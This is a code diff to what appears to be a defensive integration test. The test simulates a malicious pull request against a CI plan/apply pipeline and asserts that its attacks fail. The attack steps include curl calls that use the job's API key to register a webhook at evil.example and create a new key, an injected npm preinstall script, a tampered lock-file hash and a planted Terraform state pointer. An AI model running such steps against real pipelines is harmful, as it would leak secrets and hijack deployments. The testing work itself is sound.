@@ -4,7 +4,8 @@ import { readdir, readFile, rm } from 'node:fs/promises';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { expect, it } from 'vitest';
-import { onlyInWholeRun } from '../../harness/extent';
+import type { OperationName } from '../../../src/client/contract/operations';
+import { pathOf } from '../../harness/operations';
 import { Forge } from './forge';
 import { type JobResult, runJob } from './github';
 import { type Ground, prepareGround } from './ground';
@@ -67,18 +68,22 @@ class Attacked {
 it('what a pull request can change of the pipeline gains it no more than docs/security.md says', {
   timeout: 900_000,
 }, async context => {
-  onlyInWholeRun(context);
   const ground = await prepareGround(context);
   const attacked = await Attacked.prepare(ground);
   const { machine, repository } = attacked;
+  const harmless = await readFile(join(machine.checkout, 'infrastructure', 'svc.tfplan'));
 
   // The plan job of a branch has the key and the account of svc-review, and no other secret.
-  const post = (path: string, body: object) =>
-    `curl -s -o /dev/null -w '${path} %{http_code}\\n' -H "Authorization: Bearer $SVC_API_KEY" ` +
-    `-H 'Content-Type: application/json' -d '${JSON.stringify(body)}' "$SVC_BASE_URL/v1/${path}"`;
+  const post = (operation: OperationName, body: object) =>
+    `curl -s -o /dev/null -w '${operation} %{http_code}\\n' -H "Authorization: Bearer $SVC_API_KEY" ` +
+    `-H 'Content-Type: application/json' -d '${JSON.stringify(body)}' "$SVC_BASE_URL${pathOf(operation)}"`;
   const steal = [
-    post('webhooks', { url: 'https://evil.example/', events: ['alert.created'], secret: 's'.repeat(32) }),
-    post('api_keys', { name: 'evil', tenant_id: 'ten_acme', scopes: [] }),
+    post('webhooks.create', {
+      url: 'https://evil.example/',
+      events: ['alert.created'],
+      secret: 's'.repeat(32),
+    }),
+    post('apiKeys.create', { name: 'evil', tenant_id: 'ten_acme', scopes: [] }),
     'export PG_SKIP_SCHEMA_CREATION=true PG_SKIP_TABLE_CREATION=true PG_SKIP_INDEX_CREATION=true',
     'bash pipeline.sh plan -no-color -lock=false -target=svc_webhook_endpoint.alerts > /dev/null && echo PLANNED',
     '! bash pipeline.sh plan -no-color -lock=false 2>&1',
@@ -91,21 +96,14 @@ it('what a pull request can change of the pipeline gains it no more than docs/se
       text.replace('run: bash pipeline.sh plan -lock=false', ['run: |', ...steal].join('\n          ')),
   });
   const stolen = (await attacked.run('svc-plan', 'plan', changed)).steps['Plan']?.output ?? '';
-  expect(stolen).toContain('webhooks 201\napi_keys 403\nPLANNED\n');
+  expect(stolen).toContain('webhooks.create 201\napiKeys.create 403\nPLANNED\n');
   expect(stolen).toContain('needs an unrestricted key');
   expect(stolen).toContain('\nsvc_api_key\nsvc_webhook_endpoint\n');
   expect(stolen).toContain('permission denied');
   expect(stolen).toContain('passphrase <>');
   const before = ground.ids();
 
-  // npm executes no script, and refuses a package with another content than the lock file names.
-  const script = await attacked.merge({
-    'infrastructure/package.json': text =>
-      text.replace('{', '{"scripts":{"preinstall":"touch ../executed"},'),
-  });
-  expect(script.hasFailed).toBe(false);
-  expect(await readdir(machine.checkout)).not.toContain('executed');
-  const harmless = await readFile(join(machine.checkout, 'infrastructure', 'svc.tfplan'));
+  // npm refuses a package with another content than the lock file names.
   const otherPackage = await attacked.merge({
     'infrastructure/package-lock.json': text => text.replace(/sha512-.{8}/, 'sha512-AAAAAAAA'),
   });
@@ -133,7 +131,8 @@ it('what a pull request can change of the pipeline gains it no more than docs/se
   expect(ungated.steps['Report']?.code).toBe(1);
   expect(existsSync(machine.kept('svc-plan'))).toBe(false);
 
-  // Another state, or none: the plan says that it creates everything, and the apply refuses what the platform already has.
+  // Another state, or none: the plan says that it creates everything, and the apply refuses what the platform already has. npm
+  // executes no script.
   const pointer = await attacked.merge({
     'infrastructure/.terraform/terraform.tfstate': () =>
       '{"version":3,"backend":{"type":"local","config":{"path":"planted.tfstate"},"hash":1}}',
@@ -141,7 +140,10 @@ it('what a pull request can change of the pipeline gains it no more than docs/se
   expect(pointer.steps['Plan']?.output).toContain('Backend configuration changed');
   const elsewhere = await attacked.merge({
     'infrastructure/main.tf': text => text.replace('security_production', 'elsewhere'),
+    'infrastructure/package.json': text =>
+      text.replace('{', '{"scripts":{"preinstall":"touch ../executed"},'),
   });
+  expect(await readdir(machine.checkout)).not.toContain('executed');
   expect(elsewhere.summary).toMatch(/^\*\*Nobody has reviewed[\s\S]*2 to create/);
   const head = await repository.git('rev-parse', 'HEAD');
   const refused = await attacked.run('svc-apply', 'apply', head);
